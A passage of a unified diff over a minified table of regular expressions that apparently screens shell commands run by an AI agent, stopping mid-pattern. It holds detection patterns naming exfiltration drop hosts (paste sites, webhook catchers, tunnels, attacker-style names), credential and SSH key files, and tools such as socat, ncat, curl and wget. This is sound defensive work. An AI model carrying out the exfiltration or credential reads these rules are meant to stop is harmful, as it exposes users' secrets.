@@ -1315,1496 +1315,1498 @@ ind delete cluster (?:--name[= ])?|k3d cluster delete |minikube delete (?:-p|--p
 tting":["(?:^|\\\\s)(?:remote(?:\\\\.[\\\\w-]+\\\\.\\\\w*url|\\\\.pushDefault| add| set-url)|\\\\S*pushRemote)","i"],"brings_files":["^(?:cp|ln|mv|rsync|tar|unzip|scp|mount|\\\
 \\w*fs|\\\\w*fuse|rclone)$"],"restoring_word":["^(?:checkout|restore|--|\\\\u{FFFC})$","u"],"compose_down":["^(?:docker|podman)(?: compose|-compose) .*\\\\bdown\\\\b"],"\
 project_name":[" (?:-p|--project-name)[= ](\\\\S+)"],"unique_setting":["^COMPOSE_PROJECT_NAME=[\\\\w-]*7340281946"],"unique_project":[" (?:-p|--project-name)[= ](?:\
-(?!\\\\S*[/~])[\\\\w-]*7340281946\\\\S*|(?!\\\\S*(?:prod|live|main|master|stag|release|data|backup|company))(?:[\\\\w-]*[-_])?(?:tmp|temp|tests?|testing|scratch|throwaway\
-|sandbox|e2e|smoke|ci|(?:ci|e2e|unit|smoke)tests?)(?:[-_][\\\\w-]*)?(?= ))"],"compose_program":["^(?:docker|podman|nerdctl|docker-compose|podman-compose)$"],"timi\
-ng_wrapper":["^(?:time|timeout|env|(?:ba)?sh|nice)$"],"compose_variable":["^(?:DOCKER_HOST|DOCKER_CONTEXT|COMPOSE_\\\\w+|CONTAINER_HOST)$"],"compose_place":[" (?:\
--p|--project-name|--project-directory|-H|--host|-c|--context)|(?: -f|--file)[= ]?(?:[/~]|\\\\.\\\\.)|(?:-f|--file|--env-file|--profile)[= ]?\\\\S*prod"],"context_chan\
-ge":["^(?:docker context use|docker-machine|eval |export DOCKER)|DOCKER_HOST="],"git_step":["^--(?:continue|skip|abort|quit|show-current-patch|edit-todo)$"],"cl\
-uster_tool":["^(?:kubectl|helm|kind|k3d|docker|echo|printf|sleep|true|cat|grep|head|tail|jq|wc|date|mktemp|test|\\\\[|wait|cd|set|mkdir|trap)$"],"database_client"\
-:["^(?:redis-cli|valkey-cli|mongosh?)$"],"server_program":["^(?:mysqld(?:_safe)?|mariadbd|postgres|pg_ctl|redis-server|valkey-server|mongod)$"],"place_variable"\
-:["HOST|URL|SERVICE|PORT|ADDR|SOCK|DEFAULTS"],"forwarding_program":["^(?:ssh|socat|stunnel|ln|kubectl|haproxy|iptables|nft|ncat|source|\\\\.)$"],"leaves_database"\
-:["\\\\\\\\c|\\\\buse\\\\b|\\\\w\\\\.\\\\w|=\\"?\\\\w|://|^-h|^--host"],"git_abort":["^(merge|rebase|cherry-pick|revert|am) --abort$"],"placeless_flag":["^(?:-[aefiqy]|--(?:name\
-|if-exists|force|echo|quiet|yes|wait|verbose|timeout|no-[\\\\w-]+)|\\\\d+[sm])$"],"cluster_creation":["^(?:kind create cluster|k3d cluster create)(?!.* -h\\\\b)(?!.*-\
--(?:help|switch-context|update-default|kubeconfig-))"],"cluster_settings":[" --kubeconfig[= ](/tmp/\\\\S+)"],"other_cluster":["\\\\bctx\\\\b|\\\\bcurrent-context|--user\
-\\\\b|\\\\s-s\\\\S|\\\\buse-context|^kubectx|\\\\bset-context|--(?:kube-?)?(?:context|config|cluster)\\\\b|--server\\\\b|\\\\s-s\\\\s|^kind export|^kubectl config|^docker (?:run|\
-exec|cp)|KUBECONFIG"],"near_wrapper":["^(?:(?:ba)?sh|sudo|env|time|timeout|psql|mysql|mariadb)$"],"code_wrapper":["^(?:python[\\\\d.]*|node|deno|bun|ruby|perl|php\
-)$"],"naming_option":["^--?(?:[\\\\w-]*(?:name|bucket|cluster|topic|queue|identifier|stack|table|database|volume|repo|id|group)|n|p)(?:=|$)"],"temporary_file":["^\
-/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.).+"],"loopback":["^UseDevelopmentStorage=true$|^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/\\\\s]*@)?(?:localhost|127(?:\\\\.\\\\d+){3}|\\\\[:\
-:1\\\\])(?::\\\\d+)?(?:/|$)"],"test_name":["^(?:.*[/_-])?(?:test|tests|testing|scratch|tmp)(?:[_-][\\\\w\\\\u{FFFC}-]*)?\\\\d*(?:\\\\.(?:db|sqlite3?))?(?:\\\\?.*)?$","u"],"pa\
-ssing_file":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.))"],"passing_address":["^(?:(?:file|sqlite\\\\d?):(?://)?/?)?/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.\
-)|^(?:file:|sqlite\\\\d?:(?://)?/?)?:memory:(?:\\\\?.*)?$|^jdbc:(?:h2|hsqldb|derby)::?mem"],"file_client":["^(?:sqlite3?|duckdb)$"],"http_client":["^(?:curl|wget|ht\
-tps?|xhs?)$"],"beyond_database":["^(?:drop-database|drop-tablespace|drop-owned|shutdown|flush)$"],"local_host":["^(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\
-\\\\]?|host\\\\.docker\\\\.internal|10\\\\.[\\\\d.]+|192\\\\.168\\\\.[\\\\d.]+|172\\\\.(1[6-9]|2\\\\d|3[01])\\\\.[\\\\d.]+|[a-z][\\\\w-]*|.*\\\\.(local|localhost|test|internal|svc))$"],"dr\
-op_host":["(^|\\\\.)(transfer\\\\.sh|file\\\\.io|0x0\\\\.st|termbin\\\\.com|pastebin\\\\.com|paste\\\\.ee|hastebin\\\\.com|ix\\\\.io|sprunge\\\\.us|dpaste\\\\.(org|com)|webhook\\\\.sit\
-e|requestbin\\\\.(com|net)|requestcatcher\\\\.com|pipedream\\\\.net|beeceptor\\\\.com|interact\\\\.sh|oast\\\\.\\\\w+|burpcollaborator\\\\.net|ngrok(-free)?\\\\.(io|app|dev)|tryc\
-loudflare\\\\.com|serveo\\\\.net|localtunnel\\\\.me|loca\\\\.lt|anonfiles\\\\.com|gofile\\\\.io|bashupload\\\\.com|temp\\\\.sh|catbox\\\\.moe|filebin\\\\.net|oshi\\\\.at|wetransfer\\\\\
-.com|discord(app)?\\\\.com|hooks\\\\.slack\\\\.com|api\\\\.telegram\\\\.org|dnslog\\\\.cn|canarytokens\\\\.com)$|^\\\\d{1,3}(\\\\.\\\\d{1,3}){3}$|(^|[.-])(evil|attack(er)?|exfil\\\\w\
-*|malicious|malware|c2|hacker|phish\\\\w*|leak\\\\w*|collect(or)?|drop|steal\\\\w*|bad(actor|guy)?|rogue|sink)([.-]|\\\\d|$)","i"],"file_folder":["(^|/)(bin|sbin|script\
-s|script|hooks|\\\\.husky|tools|ci)$"],"daemon_path":["^/(?:usr/)?(?:local/)?(?:sbin|lib(?:exec)?)/"],"lsof_port":["^(?:-\\\\w*i)?(?:[46]?(?:tcp|udp))?(?:@[\\\\w.-]+)\
-?:(\\\\w+)$","i"],"few_lines":["^(?:-(?:n ?|-lines[= ])?(?:1?\\\\d|20|\\\\u{FFFC}.*))?$","u"],"one_line":["^(?:-n \\\\d{1,2}p|\\\\d{1,2}!d)$"],"matching_lines":["^(?:-n )\
-?/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*!d$|^(?:-n|--quiet|--silent) (?:/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*p|s([/|#,])((?:(?!\\\\3)[^\\\\\\\\\\\\n]|\\\\\\\\.)*)\\\\3.*p)$"],"word_everywhere":["^\
-(root|pid|usr|bin|sbin|lib)$","i"],"ps_choice":["^-\\\\w*[pq](?:[\\\\d\\\\u{FFFC}]|$)|^-C|^%%|^--(?:p?pid|quick-pid)(?:=|$)|^\\\\d+(?:,\\\\d+)*$|^\\\\u{FFFC}","u"],"ps_all"\
-:["^-[aefFlAjwHTLcy]*[eA]|^a?u?x"],"find_by_name":["^-(name|iname|path|ipath|wholename|iwholename|regex|iregex)$"],"find_by_property":["^-([acm](time|min)|newer\
-\\\\w*|anewer|cnewer|user|uid|samefile|used)$"],"choosing_filter":["^(?:[efz]?grep|rg|head|[gm]?awk|sed|fzf|shuf|test|\\\\[\\\\[?|cmp|diff|git)$"],"find_action":["^-(\
-?:print0?|printf|fprint0?|fprintf|f?ls|exec|execdir|ok|okdir|delete)$"],"find_command":["^-(exec|execdir|ok|okdir)$"],"deleting_program":["^(.*/)?(rm|unlink|shr\
-ed|rimraf|srm)$"],"temp_root":["^/(private/)?(tmp|var/tmp|dev/shm)/*$"],"supplying_wrapper":["^(g?xargs|find|fd|parallel|[gm]?awk)$"],"fd":["^fd(find)?$"],"sear\
-ch_program":["^(find|ls|git|fd|fdfind)$"],"own_program":["^(?![~/])(?!.*(?:node_modules|vendor|env)/).*/"],"subcommand_word":["^[a-zA-Z][\\\\w:.-]*$"],"command_ar\
-gument":["^(?:-{1,2}[\\\\w-]|[/~.$]|\\\\+|[\\\\w-]+[/.=:]|[a-z][a-z0-9]*-[a-z])"],"command_end":["^(?:and|then|to|so|because|which|in|for|on|but|with|before|after|\\\\d\
-+[.)])$"],"valuable_things":["^(?:(?:private|ssh) keys?|api keys|all secrets|the secrets|stored (?:secrets|passwords)|saved passwords|(?:my |user |stored |saved\
- |the )?credentials|\\\\.env file|the remote)$"],"announcement":["(?:^|\\\\s)(?:(?:i|we|you|agent|the agent|then) (?:will|shall|must|should|can|could|am going to|ar\
-e going to|plan to|intend to|want to|would like to|need to|have to|ought to|am about to|are about to|'ll)|i'll|we'll|you'll|i'd like to|we'd like to|i'm going t\
-o|we're going to|i'm about to|we're about to|i'm gonna|we're gonna|i'd|let's|lets|let me|let us|gonna|going to|about to|need to|needs to|need you to|want you to\
-|like you to|have to|got to|gotta|can you|could you|would you|will you|please|(?:plan|goal|task|idea|step|approach|next|solution|fix|strategy|aim|objective|job|\
-thing|way|option|move) is to|try to|proceed to|continue to|make sure to|be sure to|remember to|don't forget to|do not forget to|don't hesitate to|do not hesitat\
-e to|feel free to|time to|best to|easiest to|simplest to|(?:then|now|next|first|finally|so|and) (?:we|i)|start by|begin by|by|i am|i'm|we are|we're|currently|no\
-w|ich|wir|je vais|nous allons|il faut|je dois|voy a|vamos a|hay que)$"],"own_announcement":["\\\\b(?:i'll|we'll|let me|let's|i'm going to|we're going to|(?:i|we) \
-(?:will|need to|have to|must|am going to|are going to))\\\\b"],"signal_option":["^-(\\\\d+|(SIG)?(HUP|INT|QUIT|ILL|TRAP|ABRT|BUS|FPE|KILL|USR[12]|SEGV|PIPE|ALRM|TER\
-M|CHLD|CONT|STOP|TSTP))$","i"],"affirmative_value":["^(client|server|true|t|1|yes)$","i"],"negative_value":["^(false|f|0|no|none|off)$","i"],"bare_letter":["^-\\\
-\\w*[rvqayzR]$"],"request_statement":["^\\\\s*DROP\\\\s+(DATABASE|TABLE|SCHEMA|USER|MEASUREMENT|SERIES|VIEW|COLUMN)\\\\b|^\\\\s*(TRUNCATE\\\\s+\\\\S|DELETE\\\\s+FROM\\\\s|ALTER\\\
-\\s+TABLE\\\\s|UPDATE\\\\s+\\\\S+\\\\s+SET\\\\s|GRANT\\\\s|REVOKE\\\\s)","i"],"request_fields":["(?:^|[?&])(?:query|q|sql|statement|stmt)=([^&#]*)|\\"(?:query|q|sql|statement|s\
-tmt)\\"\\\\s*:\\\\s*\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.){1,4000})\\"","gi"],"sql_path":["/(?:sql|query|statement|exec\\\\w*)\\\\b","i"],"own_server":["^(?:https?://)?(?:localhost|127\\\\\
-.\\\\d+\\\\.\\\\d+\\\\.\\\\d+)(?::(?!8123|8086|9000|9200|7474|8529|4200)\\\\d+)?(?:/|$)"],"sending_command":["^\\\\s*-?(?:put|mput|reput|send|append|mirror\\\\s+(?:-\\\\w*R\\\\w*|-\
--reverse))\\\\s+(.*)$"],"editor_shell":["^\\\\s*:?\\\\s*(?:[\\\\d,.$%]*!|[rw]\\\\s*!|silent!?\\\\s*!|term(?:inal)?\\\\s+|call\\\\s+system\\\\([\\"']|lua\\\\s+os\\\\.execute\\\\([\\"'])\\\\\
-s*(.+?)(?:[\\"']\\\\))?$|^\\\\s*:?\\\\s*(?:sh(?:ell)?|term(?:inal)?)!?\\\\s*$"],"container_engine":["^(?:docker|podman|nerdctl)$"],"plain_volume":["^[A-Za-z0-9][\\\\w.-]*:\
-"],"bound_volume":["\\\\bvolume create\\\\b.* (?:-[odcH]|--(?:opt|driver|type|context|host)\\\\b)"],"database_image":["^(?:[\\\\w.-]+/)*(?:postgres|postgis|pgvector|tim\
-escaledb|mysql|mariadb|percona|redis|valkey|keydb|mongo|clickhouse-server|memcached)(?:[:@]|$)"],"container_network":["^--?(?:net|network|link|env-file)\\\\b|(?:H\
-OST(?!_AUTH_METHOD)|UR[IL]|ADDR|DSN|SERVICE)\\\\w*=|^[A-Z_]+=\\\\S*://|\\\\.my\\\\.cnf|pgpass|pg_service|psqlrc"],"input_name":["^(?:[-=]|/dev/stdin)$"],"indirect_runs"\
-:["\\\\b(?:exec\\\\.Command(?:Context)?|Command::new|ProcessBuilder|Runtime\\\\S*\\\\.exec|Process\\\\.(?:run|start)(?:Sync)?|os\\\\.execute|io\\\\.popen)\\\\s*\\\\(\\\\s*(?:ctx\\\\s\
-*,\\\\s*)?(?![\\\\s\\"'\`)])|\\\\b(?:system2?|popen|execv[pe]*|System\\\\.(?:cmd|shell)|os:cmd|Open3\\\\.\\\\w+)\\\\s*\\\\(\\\\s*(?![\\\\s\\"'\`)])"],"command_texts":["([\\"'])((?:sudo\\\
-\\s+)?(?:rm|dd|shred|mkfs\\\\S*|git|chmod|chown|curl|wget)\\\\s(?:(?!\\\\1)[^\\\\\\\\\\\\n]){1,500})\\\\1"],"home_lookup":["\\\\bEnvironment\\\\.(?:GetFolderPath\\\\(\\\\s*Environment\
-\\\\.SpecialFolder\\\\.(?:UserProfile|Personal|MyDocuments)|GetEnvironmentVariable\\\\(\\\\s*\\"(?:HOME|USERPROFILE)\\")\\\\s*\\\\)|\\\\b(?:System\\\\.)?(?:homedir|user_home!?)\\\\\
-(\\\\)|\\\\$(?:HOME|env:USERPROFILE|env:HOME)\\\\b|\\\\bENV\\\\[[\\"']HOME[\\"']\\\\]|\\\\b(?:(?:std::)?env::|os[.:]|Sys\\\\.|System\\\\.)?(?:[gG]etenv|get_env!?|var(?:_os)?|getPro\
-perty)\\\\s*\\\\(?\\\\s*[\\"'](?:HOME|user\\\\.home)[\\"']\\\\s*\\\\)|\\\\b(?:Platform|ProcessInfo\\\\.processInfo|System)\\\\.environment\\\\[[\\"']HOME[\\"']\\\\]|\\\\$(?:::)?env\\\\(HOME\\\
-\\)|\\\\b(?:path\\\\.expand|expanduser|expand-file-name)\\\\s*\\\\(?\\\\s*[\\"']~[\\"']\\\\s*\\\\)","g"],"git_settings":["^core\\\\.(sshcommand|editor|pager|askpass|fsmonitor|gitp\
-roxy|alternaterefscommand)$|^(sequence\\\\.editor|diff\\\\.external|gpg(\\\\..+)?\\\\.program|pager\\\\..+|credential(\\\\..*)?\\\\.helper)$|^(diff|merge|filter|difftool|merg\
-etool)\\\\..+\\\\.(cmd|command|textconv|driver|clean|smudge|process|path)$|^(uploadpack\\\\.packobjectshook|sendemail\\\\.(tocmd|cccmd|headercmd))$","i"],"production_na\
-me":["(?:^|[^a-z])(?:prod|production|live)(?:[^a-z]|$)","i"],"standard_input":["^(?:-|/dev/stdin|/proc/self/fd/0|/dev/fd/0)$"],"shell_program":["^(?:ba|da|z|k|m\
-k|a|rba|ya)?sh$"],"output_device":["^/dev/(?:stdout|stderr|fd/[12])$"],"reliable_command":["^(?::|true|echo|printf|export|declare|local|set|alias|mkdir(?= -p))(\
-?= |$)"],"changing_builtin":["^(?:set|shopt|source|\\\\.)$"],"unfollowed_state":["\\\\(\\\\(|\\\\[\\\\[[^\\\\]]*\\\\s-\\\\w\\\\w\\\\s|\\\\w\\\\[[^\\\\]\\\\n]*[=+-]|\\\\$\\\\{\\\\w+:[^-+?=]|\\\\bIF\
-S=|\\\\bprintf -v\\\\w|\\\\bread -\\\\w*a\\\\w|\\\\bfunctions\\\\[|\\\\bset -[oA]\\\\b|\\\\blocal \\\\$|\\\\bTRAP[A-Z]|\\\\bwait -p|\\\\b(?:let|eval|source|unset|integer|float|repeat|alway\
-s|disable|unfunction|unhash|emulate|zmodload|getopts|coproc|shopt|enable|setopt|DEBUG|RETURN|ERR|BASH_ENV)\\\\b|(?:^|[;&|(\\\\n])\\\\s*\\\\.\\\\s"],"special_variable":["^\
-(?:RANDOM|SRANDOM|SECONDS|LINENO|EPOCH\\\\w+|BASH\\\\w*|ZSH\\\\w*|OPT\\\\w+|REPLY|PIPESTATUS|PWD|OLDPWD|[EP]*[UGP]ID|DIRSTACK|FUNCNAME|GROUPS|SHELLOPTS|HIST\\\\w+|COMP\\\\w\
-+|MAPFILE|COPROC|IFS|_|status|argv|[a-z]*path|pipestatus|options|commands|functions|aliases|match|reply|signals|history|keymaps|widgets|TTYIDLE|COLUMNS|LINES|HO\
-ST\\\\w*|MACHTYPE|OSTYPE|USERNAME|TRY_BLOCK_\\\\w+)$"],"unfollowed_builtin":["^(?:let|eval|source|\\\\.|shopt|enable|setopt|trap|declare|typeset|builtin|command)$"],"\
-error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o errexit)(?: -\\\\w+| -o \\\\w+| pipefail)*$"],"waiting_command":["^(?:wait|sleep|usleep|break|exit|return|read|inotifywait|f\
-swatch|select|wait4|flock|nc|curl|wget|timeout)$"],"endless":["^yes\\\\b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\bcount=).*/dev/(?:zero|u?random|full)(?: |$)"],"early\
-_code":["\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK|use|no|require)\\\\b"],"checking_option":["^(?:c|check|[eElwW]|MO=\\\\w+)$"],"process_name":["[\\"'/|(^](?!name|pid|cmd|exe\
-|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)$])","g"],"git_filter":["^(?:stripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"harmless":["^[\\\\w.-]*%[\\\\\
-d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choosing":["(?:[!=<>]=\\\\s*|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|startswith|endsw\
-ith|contains|inside|has|split|r?index|match|capture|scan|[lr]trimstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]time)\\\\s*\\\\(\
-\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain_text":["^[\\\\w\\\\u{FFFC}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":["\\\\b(?:implode|fromjson|\
-ltrimstr|rtrimstr|ascii_downcase|ascii_upcase|gsub|sub|reverse|tojson|input)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|template|dist|tpl|tmpl|defau\
-lts?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_settings":["/(config|known_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory":["^/proc/[^/]+/mem$|^/d\
-ev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp|var/tmp|var/folders|private/tmp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_cache":["^/var/(cache|lib/a\
-pt/lists)/"],"system_tree":["^/([^/]+|(usr|var|etc|system|library)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|apt))$"],"local_system":[\
-"^/(usr/local|usr/src|opt|srv|var/www|etc/apt/(sources\\\\.list\\\\.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)"],"disposa\
-ble_name":["^\\\\.coverage\\\\..+$|^\\\\.?venv[-_.]?\\\\w[\\\\w.-]*$|^(tmp|temp|test|scratch|demo|dummy|build|dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|c\
-ache|build|dist|out|output|bak|results?|coverage|artifacts?|generated)$|.+\\\\.(egg-info|dist-info|pyc|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbu\
-ildinfo|gcda|gcno|profraw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\\\\.js|min\\\\.css|test\\\\.db)$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo\
-.*|^my[-_]?test.*"],"device":["^/dev/(?:(?:tcp|udp|pts|fd)/|(?:stdin|stdout|stderr|tty|fd|null|zero|full|random|urandom)$)"],"other_place":["^(?:-h|-u$|--host|-\
--login-path|\\\\w*(?:HOST|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connect|Mongo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^\
- ]*\\\\uFFFC"],"local_wrapper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohup|nice|time|xargs|find|awk|python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\br\
-edis\\\\.p?call\\\\s*\\\\(\\\\s*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:D\
-EL|UNLINK)[\\"']|[\\"'](?:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"c\
-redential_name":["^id_(rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|keystore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\\
-b|bundle|public|\\\\bpub\\\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|prod|production|staging|dev|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|produ\
-ction|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access\
-)[-_]?keys?(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]\
-?secrets?|gcp[-_]?key|sa[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_.])(api|secret|private|access|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^(l\
-ogin data|web data)( for account)?(-journal)?$|^vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(fixtures?|__fixture\
-s__|testdata|test[-_]data|test[-_]fixtures)/"],"fixture_key":["^(fake|dummy|mock|example|sample|test|invalid|expired|self[-_]?signed|server|client|localhost|lea\
-f|agent\\\\d)"],"windows_folder":["[*?[{]|^(?:inetpub|documents and settings|windows|program ?files.*|programdata|system.*|users|boot|efi|recovery|perflogs|\\\\$.*)\
-$"],"package_store":["^\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuget|cache|node-gyp|electron|cypress|conda)$"],"counting_flag":["^(?:-q|-c|--quiet|--count)$"],\
-"listing_flag":["^(?:-l|--files-with-matches|--files)$"],"printing_names":["^sed (?:-n (?=.*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\1=?(?:(?!\\\\1)[^&\\\\\\\\;\\\\n])*\\\\1[gp]?(?\
-: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?| ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:-z )?(?:-d ?= -f ?1\
-|-f ?1 -d ?=)(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E -o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A-Z|a-z|0-9|_)+\\\\]|[\
-\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}]*\\\\/|!\\\\/\\\\^#\\\\/(?\
-: ?&& ?NF)?)? ?\\\\{ ?print \\\\$1;? ?\\\\}$"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"line_filter":["^(?:cat|[ef]?grep(?\
-! -\\\\S*[oPzr])|rg(?! -\\\\S*[or])|sort(?!.* (?:-\\\\w*o|--output))|uniq(?! [^-]| .* [^-])|head(?! -c)|tail(?! -c)|env|kubectl get|oc get) ?"],"secret_listing":["^(?\
-:kubectl|oc)$"],"counter":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["(?:^|/)\\\\.env(?:\\\\.\
-[\\\\w-]+)*$"],"text_filter":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](?:example|sample|te\
-mplate|tpl|dist|defaults?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\\d+|[A-Za-z]\\\\w*|\\\\\
-u{FFFC})|\\\\bindex\\\\(\\\\s*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed_command":["(?<betw\
-een>[\\\\s;{}!]+|#.*|\\\\d+(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\
-\\\\k<quote>)[^\\\\\\\\[])*\\\\k<quote>)|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\])(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\\[])*)\\\
-\\k<delimiter>(?<replacement>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*)\\\\k<delimiter>(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\\s\\\\\\\\]\
-)(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]*)|e(?<\
-command>.*)|[wW](?<output>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*\\"?|\\\
-\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x60$\\\\x7\
-b\\\\x7d,]+|[\\\\s\\\\S]","y"],"printf_escape":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_directive\
-":["%%|%[-+ #0]*(\\\\d*|\\\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%(?!x|\\\\\
